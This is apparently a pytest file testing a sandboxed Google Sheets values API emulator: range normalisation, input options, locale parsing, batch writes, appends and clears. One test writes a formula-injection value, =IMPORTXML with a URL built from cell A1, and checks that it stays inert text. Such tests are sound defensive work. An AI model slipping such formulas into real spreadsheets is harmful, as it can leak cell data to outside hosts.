"""
Cells of the played Sheets, read and written by ranges with Google's own client.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
import requests
from googleapiclient.errors import HttpError

from sandbox.app import Sandbox
from sandbox.google import Google
from tests.sandbox.google_clients import person, sheets


@pytest.fixture(scope="module")
def google() -> Google:
    return Google({})


@pytest.fixture(scope="module")
def sandbox(google: Google) -> Iterator[Sandbox]:
    with Sandbox([google]) as running:
        yield running


@pytest.fixture(scope="module")
def service(google: Google, sandbox: Sandbox) -> Any:
    return sheets(google, sandbox)


class File:
    """
    A spreadsheet of its own, with short names for its calls.
    """

    def __init__(self, service: Any, number: str) -> None:
        self.service, self.id = service, number

    def write(self, range: str, values: list[list[Any]], option: str = "RAW", **more: Any) -> Any:
        body = {"values": values, **more}
        call = self.service.values().update(spreadsheetId=self.id, range=range, valueInputOption=option, body=body)
        return call.execute()

    def read(self, range: str, render: str = "UNFORMATTED_VALUE", **more: Any) -> Any:
        return self.service.values().get(spreadsheetId=self.id, range=range, valueRenderOption=render, **more).execute()

    def append(self, range: str, values: list[list[Any]], **more: Any) -> Any:
        body = {"values": values}
        call = self.service.values().append(
            spreadsheetId=self.id, range=range, valueInputOption="RAW", body=body, **more
        )
        return call.execute()

    def change(self, *changes: dict[str, Any]) -> Any:
        return self.service.batchUpdate(spreadsheetId=self.id, body={"requests": list(changes)}).execute()


@pytest.fixture
def file(google: Google, service: Any) -> File:
    return File(service, google.new_spreadsheet("KPIs"))


def message(raised: pytest.ExceptionInfo[HttpError]) -> str:
    return str(raised.value.reason)


def test_values_come_back_trimmed_in_a_normalised_range(file: File) -> None:
    """
    Empty ends of rows and of the whole are cut, gaps inside stay, the range is brought within the grid.
    """
    written = file.write("A2", [["a", 1, ""], [""], [True, None, 2.5]])

    assert written["updatedRange"] == "Sheet1!A2:C4"
    assert (written["updatedRows"], written["updatedColumns"], written["updatedCells"]) == (3, 3, 7)
    assert file.read("Sheet1") == {
        "range": "Sheet1!A1:Z1000",
        "majorDimension": "ROWS",
        "values": [[], ["a", 1], [], [True, "", 2.5]],
    }
    assert file.read("A2:B")["range"] == "Sheet1!A2:B1000"
    assert file.read("Sheet1!C:C")["range"] == "Sheet1!C1:C1000"
    assert file.read("A3:C3") == {"range": "Sheet1!A3:C3", "majorDimension": "ROWS"}
    assert file.read("A2:C4", majorDimension="COLUMNS")["values"] == [["a", "", True], [1, "", ""], ["", "", 2.5]]


def test_titles_are_quoted_only_when_they_need_it(file: File) -> None:
    """
    A title with a blank, a quote, or the look of a cell comes back in quotes; a plain word without.
    """
    for number, title in enumerate(["kpi data", "it's", "Q1", "history"], 10):
        file.change({"addSheet": {"properties": {"sheetId": number, "title": title}}})

    assert file.read("'kpi data'!A1:B2")["range"] == "'kpi data'!A1:B2"
    assert file.read("'it''s'!A1")["range"] == "'it''s'!A1"
    assert file.read("'Q1'!A1:A2")["range"] == "'Q1'!A1:A2"
    assert file.read("Q1")["range"] == "Sheet1!Q1"
    assert file.read("'history'!1:2")["range"] == "history!A1:Z2"


def test_raw_text_stays_text(file: File) -> None:
    """
    RAW keeps a formula, a number and a date as the text they are; nothing is worked out.
    """
    hostile = '=IMPORTXML("https://example.com/?"&A1)'
    file.write("A1", [[hostile, "12,5", "2026-11-01", 7]])

    assert file.read("A1:D1")["values"] == [[hostile, "12,5", "2026-11-01", 7]]
    cell = file.service.get(
        spreadsheetId=file.id, ranges="A1", fields="sheets.data.rowData.values.userEnteredValue"
    ).execute()["sheets"][0]["data"][0]["rowData"][0]["values"][0]
    assert cell == {"userEnteredValue": {"stringValue": hostile}}


def test_entered_text_is_read_by_the_locale(file: File) -> None:
    """
    Typed into a Spanish spreadsheet, `12,5` is a number and `12.5` is not; formulas are kept and never fetch.
    """
    typed = ["12,5", "12.5", "25%", "TRUE", "2026-11-01", "'007", "=1+2*3", '=IMPORTDATA("https://example.com")']
    file.write("A1", [typed], option="USER_ENTERED")

    unformatted = file.read("A1:H1")["values"][0]
    assert unformatted == [12.5, "12.5", 0.25, True, 46327, "007", 7, "#N/A"]
    assert file.read("A1:H1", "FORMULA")["values"][0][6:] == ["=1+2*3", '=IMPORTDATA("https://example.com")']
    assert file.read("A1:E1", "FORMATTED_VALUE")["values"] == [["12,5", "12.5", "25%", "TRUE", "2026-11-01"]]
    dated = file.read("E1", dateTimeRenderOption="FORMATTED_STRING")
    assert dated["values"] == [["2026-11-01"]]


def test_null_leaves_and_empty_text_empties(file: File) -> None:
    """
    Over [1, 2, 3], writing [null, "", 9] gives [1, nothing, 9].
    """
    file.write("A1", [[1, 2, 3]])
    file.write("A1", [[None, "", 9]])

    assert file.read("A1:C1")["values"] == [[1, "", 9]]


def test_writing_needs_room(file: File) -> None:
    """
    More than the range holds is refused, a single cell is only a start, and nothing is written past the grid.
    """
    assert file.write("B2", [[1, 2], [3, 4]])["updatedRange"] == "Sheet1!B2:C3"
    with pytest.raises(HttpError) as raised:
        file.write("A1:B2", [[1], [2], [3]])
    assert message(raised) == "Requested writing within range ['Sheet1'!A1:B2], but tried writing to row [3]"
    with pytest.raises(HttpError) as raised:
        file.write("Z1", [[1, 2]])
    assert message(raised) == "Requested writing within range ['Sheet1'!Z1], but tried writing to column [AA]"
    with pytest.raises(HttpError) as raised:
        file.read("A1001:B")
    assert message(raised) == "Range (Sheet1!A1001:B) exceeds grid limits. Max rows: 1000, max columns: 26"


def test_wrong_ranges_and_options_are_named(file: File, google: Google, sandbox: Sandbox) -> None:
    """
    A tab that is not there, a missing option, an unknown one and an over-long text get their 400.
    """
    cases = [
        (lambda: file.read("NoSuchTab!A1"), "Unable to parse range: NoSuchTab!A1"),
        (lambda: file.write("A1", [["x" * 50_001]]), "more than the maximum of 50000 characters"),
        (lambda: file.write("A1", [["x"]], option="INPUT_VALUE_OPTION_UNSPECIFIED"), "'valueInputOption' is required"),
    ]
    for call, words in cases:
        with pytest.raises(HttpError) as raised:
            call()
        assert words in message(raised)
    url = f"{sandbox.url}/v4/spreadsheets/{google.spreadsheet_id}/values/A1?valueRenderOption=NEAT"
    assert "value_render_option" in person(google).get(url).json()["error"]["message"]


def test_a_batch_of_values_is_atomic(file: File) -> None:
    """
    One bad range among good ones is named by its place, and nothing at all is written.
    """

    def batch(*ranges: str) -> Any:
        data = [{"range": name, "values": [["x", 1]]} for name in ranges]
        body = {"valueInputOption": "RAW", "data": data}
        return file.service.values().batchUpdate(spreadsheetId=file.id, body=body).execute()

    with pytest.raises(HttpError) as raised:
        batch("A1", "NoSuchTab!A1")
    assert message(raised) == "Invalid data[1]: Unable to parse range: NoSuchTab!A1"
    assert "values" not in file.read("Sheet1")

    done = batch("A1", "A3")
    totals = {name: done[f"totalUpdated{name}"] for name in ("Rows", "Columns", "Cells", "Sheets")}
    assert totals == {"Rows": 2, "Columns": 4, "Cells": 4, "Sheets": 1}
    assert [one["updatedRange"] for one in done["responses"]] == ["Sheet1!A1:B1", "Sheet1!A3:B3"]


def test_append_looks_for_a_table(file: File) -> None:
    """
    Of two tables the whole sheet means the last, a range at the first means that; beside both it starts there.
    """
    file.write("A1", [["x", "y", "z"], [1, 2, 3]])
    file.write("B4", [["p", "q"], [4, 5]])

    last = file.append("Sheet1", [[6, 7]])
    assert (last["tableRange"], last["updates"]["updatedRange"]) == ("Sheet1!B4:C5", "Sheet1!B6:C6")
    beside = file.append("F4", [[8]])
    assert "tableRange" not in beside
    assert beside["updates"]["updatedRange"] == "Sheet1!F4"
    first = file.append("A1", [[9]], insertDataOption="INSERT_ROWS")
    assert (first["tableRange"], first["updates"]["updatedRange"]) == ("Sheet1!A1:C2", "Sheet1!A3")
    assert file.read("B5:C7")["values"] == [["p", "q"], [4, 5], [6, 7]]


def test_a_repeated_append_doubles_rows(file: File, sandbox: Sandbox) -> None:
    """
    An append whose answer got lost was done all the same: sent again it stands there twice.
    """
    sandbox.control.inject(kind="lost", vendor="google", path=":append")
    with pytest.raises(requests.ConnectionError, match="without response"):
        file.append("A1", [["row", 1]])
    file.append("A1", [["row", 1]])

    assert file.read("Sheet1")["values"] == [["row", 1], ["row", 1]]


def test_append_grows_the_grid(file: File) -> None:
    """
    Below a table that fills the last row, append adds rows.
    """
    file.change(
        {
            "updateSheetProperties": {
                "properties": {"gridProperties": {"rowCount": 2}},
                "fields": "gridProperties.rowCount",
            }
        }
    )
    file.write("A1", [[1], [2]])

    assert file.append("A1", [[3], [4]])["updates"]["updatedRange"] == "Sheet1!A3:A4"
    assert file.read("Sheet1")["range"] == "Sheet1!A1:Z4"


def test_clearing_takes_values_and_leaves_formats(file: File) -> None:
    """
    A cleared date cell written again is still shown as a date.
    """
    file.write("A1", [["2026-11-01", 1]], option="USER_ENTERED")
    cleared = file.service.values().batchClear(spreadsheetId=file.id, body={"ranges": ["A1:A5"]}).execute()
    assert cleared["clearedRanges"] == ["Sheet1!A1:A5"]
    file.write("A1", [[46328]])

    assert file.read("A1:B1", "FORMATTED_VALUE")["values"] == [["2026-11-02", "1"]]
    assert file.service.values().clear(spreadsheetId=file.id, range="Sheet1", body={}).execute() == {
        "spreadsheetId": file.id,
        "clearedRange": "Sheet1!A1:Z1000",
    }


def test_a_long_get_comes_as_a_post(file: File, sandbox: Sandbox) -> None:
    """
    The client sends an address of over 2,048 characters as a POST; every range still comes back, in order.
    """
    file.write("A1", [[1, 2]])
    ranges = [f"'Sheet1'!A{row}:B{row}" for row in range(1, 120)]
    found = file.service.values().batchGet(spreadsheetId=file.id, ranges=ranges).execute()

    assert [entry["method"] for entry in sandbox.control.log][-1] == "POST"
    assert found["valueRanges"][0]["values"] == [["1", "2"]]
    assert [one["range"] for one in found["valueRanges"]][-1] == "Sheet1!A119:B119"


def test_nulls_and_python_booleans_are_taken(google: Google, sandbox: Sandbox) -> None:
    """
    What gspread sends is understood: null for optional members, `True` in the query; NaN is not JSON.
    """
    base = f"{sandbox.url}/v4/spreadsheets/{google.spreadsheet_id}"
    body = {"values": [["a"]], "majorDimension": None}
    session = person(google)
    done = session.put(f"{base}/values/%27Sheet1%27%21A1?valueInputOption=RAW", json=body)
    assert done.json()["updatedRange"] == "Sheet1!A1"
    whole = session.get(f"{base}?includeGridData=True").json()
    assert whole["sheets"][0]["data"][0]["rowData"][0]["values"][0]["formattedValue"] == "a"
    bad = session.put(f"{base}/values/A1?valueInputOption=RAW", data='{"values":[[NaN]]}')
    assert (bad.status_code, bad.json()["error"]["status"]) == (400, "INVALID_ARGUMENT")


def test_named_ranges_are_ranges(file: File) -> None:
    """
    A name given to B1:B2 reads those cells.
    """
    place = {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 2, "startColumnIndex": 1, "endColumnIndex": 2}
    file.change({"addNamedRange": {"namedRange": {"name": "spend", "range": place}}})
    file.write("B1", [[5], [6]])

    assert file.read("spend") == {"range": "Sheet1!B1:B2", "majorDimension": "ROWS", "values": [[5], [6]]}
